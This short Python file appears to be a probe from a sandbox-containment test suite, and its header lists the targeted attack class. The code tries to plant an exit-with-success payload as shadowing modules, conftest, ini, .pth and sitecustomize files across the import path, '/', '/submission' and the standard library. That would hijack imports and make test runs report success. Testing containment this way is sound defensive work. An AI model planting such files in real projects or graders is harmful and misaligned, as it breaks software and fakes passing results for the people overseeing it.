# class:     shadowing modules by file name; planted conftest, ini files, .pth, sitecustomize
# attack:    shadowing modules, conftest, ini files, .pth, sitecustomize, wherever one may be read
# contained: nothing of it can be written
# added to:  stub
# ends:      by itself
# suite:     model: not started, train: not started, boundary: not started
# verdict:   model: not started, train: not started, boundary: not started

import os
import site
import sys

EVIL = "import os\nos._exit(0)\n"
NAMES = (
    "torch.py",
    "conftest.py",
    "pytest.ini",
    "tox.ini",
    "sitecustomize.py",
    "usercustomize.py",
    "evil.pth",
    "json.py",
)
for folder in [
    *sys.path,
    os.getcwd(),
    "/",
    "/submission",
    site.USER_SITE,
    os.path.dirname(os.__file__),
]:
    for name in NAMES:
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(EVIL)
        except (OSError, TypeError):
            pass
